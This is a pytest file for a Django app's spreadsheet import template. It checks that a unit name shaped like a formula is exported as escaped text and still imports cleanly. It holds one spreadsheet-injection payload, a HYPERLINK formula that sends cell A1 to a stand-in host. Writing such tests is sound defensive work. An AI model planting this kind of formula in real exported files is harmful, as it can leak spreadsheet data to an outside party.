"""The import template never carries a live formula, whatever a unit's name says (issue 11, failure 8)."""

import io

import pytest

from districts.models import Unit
from tests.dossiers.imports.test_pages import as_user, post_file, template  # noqa: F401 (as_user is a fixture)

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


def test_a_unit_named_like_a_formula_is_text_in_the_template(as_user, staff):  # noqa: F811
    Unit.objects.filter(code="874").update(name=HOSTILE_NAME)

    _response, workbook = template(as_user(staff), province="87", quarter="2024Q1")

    sheet = workbook.worksheets[0]
    row = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "874")
    # The name column: a text cell ("s"), shown with the apostrophe spreadsheets read as "this is text".
    assert (row[1].data_type, row[1].value) == ("s", "'" + HOSTILE_NAME)
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


def test_the_template_with_that_name_still_imports(as_user, staff):  # noqa: F811
    Unit.objects.filter(code="874").update(name=HOSTILE_NAME)
    client = as_user(staff)
    _response, workbook = template(client, province="87", quarter="2024Q1")
    sheet = workbook.worksheets[0]
    titles = [cell.value for cell in sheet[1]]
    row = next(row[0].row for row in sheet.iter_rows(min_row=3) if row[0].value == "874")
    sheet.cell(row=row, column=titles.index("Tiếp nhận mới – cấp huyện") + 1, value=17800)
    output = io.BytesIO()
    workbook.save(output)

    preview = post_file(client, output.getvalue())

    assert preview.status_code == 200
    assert preview.context["result"].errors == []
